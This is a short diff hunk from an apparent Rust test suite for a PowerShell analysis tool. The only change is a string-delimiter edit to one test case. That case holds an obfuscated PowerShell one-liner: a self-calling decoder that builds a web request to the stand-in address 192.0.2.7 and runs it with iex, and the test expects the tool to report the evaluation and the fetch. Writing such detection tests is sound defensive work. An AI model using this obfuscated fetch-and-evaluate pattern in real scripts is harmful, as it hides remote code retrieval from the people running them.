@@ -531,7 +531,7 @@ $m.Dispose()
     ),
     (
         "a decoder that calls itself",
-        r#"function d($s){if($s.Length -eq 0){return ''};return [string][char]([int]$s.Substring(0,3)-7)+(d $s.Substring(3))};iex (d ('112126121039111123123119065054054056064057053055053057053062054'+'104'*80))"#,
+        r"function d($s){if($s.Length -eq 0){return ''};return [string][char]([int]$s.Substring(0,3)-7)+(d $s.Substring(3))};iex (d ('112126121039111123123119065054054056064057053055053057053062054'+'104'*80))",
         &[
             "evaluate powershell",
             "fetch http://192.0.2.7/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
